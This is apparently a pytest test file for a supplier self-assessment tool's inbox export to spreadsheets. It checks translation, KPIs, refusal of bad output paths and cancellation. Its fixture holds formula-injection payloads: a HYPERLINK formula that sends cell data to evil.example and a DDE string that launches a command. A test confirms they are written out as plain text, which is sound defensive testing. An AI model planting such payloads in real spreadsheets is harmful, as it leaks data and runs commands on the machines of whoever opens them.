"""`selfassess inbox export`: the buyer's suppliers with their buyer-side fields, every accepted
pack (superseded marked), each supplier's latest answers, criteria and actions with the buyer's
follow-up, and the KPIs, in the reader's language; text that looks like a formula stays text in
.xlsx and .csv; written whole or not at all."""

from __future__ import annotations

import csv
import sqlite3
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from tests.inbox.packs import Packs

from selfassess.cli.main import main
from selfassess.core.errors import Cancelled, InvalidInput, Refused
from selfassess.core.i18n import translate
from selfassess.core.inbox.importing import Step
from selfassess.core.inbox.kpis import KPI_IDS
from selfassess.core.inbox.service import Inbox
from selfassess.core.inbox.sheets import export_inbox
from selfassess.core.inbox.values import RISK_SOURCES

LIST = (
    "organisation;country;province;internal_id;enrolled_since\n"
    "Coopérative minière de Kalimbi;CD;Sud-Kivu;S-001;2026-01-15\n"
    "Mine de Kolwezi;CD;Lualaba;S-002;\n"
)
HOSTILE = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "reason": "-1+2 said the auditor",
    "accepted": "+cmd|' /C calc'!A0",
    "buyer_note": "@SUM(A1:A9) visited",
}


@pytest.fixture
def portfolio(inbox: Inbox, packs: Packs, tmp_path: Path) -> Inbox:
    inbox.import_paths([packs.first, packs.second, packs.other])
    listing = tmp_path / "suppliers.csv"
    listing.write_text(LIST, encoding="utf-8")
    inbox.register_list(listing)
    inbox.set_supplier("rubaya", {"risk": "medium", "risk_reason": HOSTILE["reason"]})
    inbox.add_note("rubaya", HOSTILE["buyer_note"])
    kalimbi, rubaya = (inbox.page(name).actions[0].action["id"] for name in ("kalimbi", "rubaya"))
    inbox.follow_up("kalimbi", kalimbi, "challenged", HOSTILE["note"], "2020-01-31")
    inbox.follow_up("rubaya", rubaya, "accepted", HOSTILE["accepted"])
    return inbox


def _sheets(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(path)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def _records(rows: list[tuple[Any, ...]]) -> list[dict[str, Any]]:
    heading, *body = rows
    return [dict(zip(heading, row, strict=True)) for row in body]


def test_every_sheet_in_the_readers_language(portfolio: Inbox, tmp_path: Path) -> None:
    target = tmp_path / "inbox.xlsx"
    exported = export_inbox(portfolio, target, "fr")
    assert (exported.files, exported.packs, exported.suppliers) == ([target], 3, 3)
    sheets = _sheets(target)
    assert list(sheets) == [
        "Fournisseurs",
        "Dossiers",
        "Réponses",
        "Critères",
        "Actions",
        "Indicateurs",
    ]

    def t(message: str) -> str:
        return translate("fr", message)

    suppliers = {row["Organisation"]: row for row in _records(sheets["Fournisseurs"])}
    assert sorted(suppliers) == [
        "Comptoir de Rubaya",
        "Coopérative minière de Kalimbi",
        "Mine de Kolwezi",  # on the list, no pack yet: still a supplier, with its risk
    ]
    kalimbi = suppliers["Coopérative minière de Kalimbi"]
    assert kalimbi[t("Internal id")] == "S-001"
    assert kalimbi[t("In capacity building since")].date() == date(2026, 1, 15)
    assert (kalimbi[t("Packs received")], kalimbi[t("Revision")]) == (2, 2)
    assert kalimbi[t("Children supported")] == 2
    kolwezi = suppliers["Mine de Kolwezi"]
    assert (kolwezi[t("Packs received")], kolwezi[t("Latest pack")]) == (0, None)
    assert kolwezi[t("Where the risk comes from")] == t(RISK_SOURCES["risk_data"])
    packs = _records(sheets["Dossiers"])
    superseded = t("Superseded by a later revision")
    assert sorted((p["Organisation"], p["Révision"], p[superseded]) for p in packs) == [
        ("Comptoir de Rubaya", 1, "Non"),
        ("Coopérative minière de Kalimbi", 1, "Oui"),
        ("Coopérative minière de Kalimbi", 2, "Non"),
    ]
    answers = _records(sheets["Réponses"])
    per_question = Counter((row["Organisation"], row["Question"]) for row in answers)
    assert max(per_question.values()) == 1  # the latest pack's answers only
    policy = next(row for row in answers if row["Question"] == "A1.1")
    assert policy["Question posée"].startswith("Avez-vous une politique écrite")


def test_the_follow_up_and_the_kpis_are_the_inboxs(portfolio: Inbox, tmp_path: Path) -> None:
    target = tmp_path / "inbox.xlsx"
    export_inbox(portfolio, target, "en", as_of=date(2026, 12, 31))
    sheets = _sheets(target)
    actions = _records(sheets["Actions"])
    assert {row["Organisation"] for row in actions} == {
        "Coopérative minière de Kalimbi",
        "Comptoir de Rubaya",
    }
    [challenged] = [row for row in actions if row["Buyer's follow-up"] == "Challenged"]
    assert challenged["Buyer's follow-up"] == "Challenged"
    assert challenged["Buyer's note"] == HOSTILE["note"]
    assert challenged["Follow-up due"].date() == date(2020, 1, 31)
    assert challenged["Overdue"] == "Yes"
    assert isinstance(challenged["Action number"], int)
    _found, kpis = portfolio.kpis(date(2026, 12, 31))
    rows = _records(sheets["KPIs"])
    assert [row["Indicator"] for row in rows] == list(KPI_IDS)
    for row, kpi in zip(rows, kpis, strict=True):
        assert (row["Value"], row["Numerator"], row["Denominator"]) == (
            kpi.value,
            kpi.numerator,
            kpi.denominator,
        )
        assert row["As of"].date() == date(2026, 12, 31)
    overdue = next(row for row in rows if row["Indicator"] == "overdue_actions")
    assert overdue["Suppliers behind it"].startswith("Coopérative minière de Kalimbi (")


def test_text_that_looks_like_a_formula_stays_text(portfolio: Inbox, tmp_path: Path) -> None:
    export_inbox(portfolio, tmp_path / "inbox.xlsx", "en")
    book = openpyxl.load_workbook(tmp_path / "inbox.xlsx")
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "-", "@", "+")):
                    found[cell.value] = cell.data_type
    hostile = {text for text in found if any(text in h or h in text for h in HOSTILE.values())}
    assert hostile == {HOSTILE["note"], HOSTILE["reason"], HOSTILE["accepted"]}
    assert set(found.values()) == {"s"}  # text, never a formula ("f")

    written = export_inbox(portfolio, tmp_path / "inbox.csv", "en").files
    assert [path.name for path in written] == [
        f"inbox-{key}.csv"
        for key in ("suppliers", "packs", "answers", "criteria", "actions", "kpis")
    ]
    with (tmp_path / "inbox-actions.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert "'" + HOSTILE["note"] in cells
    assert HOSTILE["note"] not in cells


def test_a_missing_folder_is_refused_before_any_work(portfolio: Inbox, tmp_path: Path) -> None:
    steps: list[Step] = []
    with pytest.raises(InvalidInput, match="does not exist"):
        export_inbox(portfolio, tmp_path / "missing" / "inbox.xlsx", "en", progress=steps.append)
    assert steps == []
    with pytest.raises(InvalidInput, match="not one of"):
        export_inbox(portfolio, tmp_path / "inbox.xlsx", "de")
    assert not (tmp_path / "inbox.xlsx").exists()


def test_a_cancelled_export_writes_nothing(portfolio: Inbox, tmp_path: Path) -> None:
    steps: list[Step] = []
    with pytest.raises(Cancelled):
        export_inbox(
            portfolio,
            tmp_path / "inbox.xlsx",
            "en",
            progress=steps.append,
            cancelled=lambda: len(steps) > 1,
        )
    assert steps[0] == Step("exporting", 0, 3)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "suppliers.csv"]


def test_an_empty_inbox_is_refused(inbox: Inbox, tmp_path: Path) -> None:
    with pytest.raises(Refused, match="no supplier yet"):
        export_inbox(inbox, tmp_path / "inbox.xlsx", "en")
    assert not (tmp_path / "inbox.xlsx").exists()


def test_a_pack_whose_data_is_gone_is_left_out_and_named(portfolio: Inbox, tmp_path: Path) -> None:
    rubaya = portfolio.supplier("rubaya").latest
    assert rubaya is not None
    with sqlite3.connect(portfolio.folder.index_path) as index:
        index.execute("DELETE FROM pack_data WHERE sha256 = ?", (rubaya.sha256,))
    exported = export_inbox(portfolio, tmp_path / "inbox.xlsx", "en")
    assert exported.packs == 2
    [left_out] = exported.set_aside
    assert left_out.path == portfolio.folder.pack_path(rubaya.sha256)
    assert "selfassess inbox rebuild" in str(left_out.reason)


def test_a_worker_process_writes_what_this_process_writes(portfolio: Inbox, tmp_path: Path) -> None:
    export_inbox(portfolio, tmp_path / "here.csv", "sw", workers=0)
    export_inbox(portfolio, tmp_path / "worker.csv", "sw", workers=1)
    for key in ("packs", "answers", "criteria", "actions"):
        here = (tmp_path / f"here-{key}.csv").read_bytes()
        assert here == (tmp_path / f"worker-{key}.csv").read_bytes(), key


def test_the_command_line_export(
    portfolio: Inbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "inbox.xlsx"
    assert main(["inbox", "export", "-o", str(target), "--lang", "fr", "--months", "6"]) == 0
    captured = capsys.readouterr()
    assert captured.out.splitlines() == [str(target), "3 packs from 3 suppliers exported"]
    assert "exporting: 3 of 3 packs (100 %)" in captured.err
    heading = _sheets(target)["Fournisseurs"][0]
    assert translate("fr", "Assessed in the last {count} months", count=6) in heading
    assert main(["inbox", "export", "-o", str(tmp_path / "inbox.ods")]) == 1
    assert "written as .xlsx or .csv" in capsys.readouterr().err


def test_a_pack_accepted_from_the_quarantine_is_exported(
    inbox: Inbox, packs: Packs, tmp_path: Path
) -> None:
    from selfassess.core.trust.known_signers import Acceptance

    inbox.import_paths([packs.first])
    [item] = inbox.import_paths([packs.changed]).quarantined
    inbox.accept(item.sha256[:12], Acceptance("called Amani", "buyer"))
    exported = export_inbox(inbox, tmp_path / "inbox.xlsx", "en")
    assert (exported.packs, exported.set_aside) == (2, [])
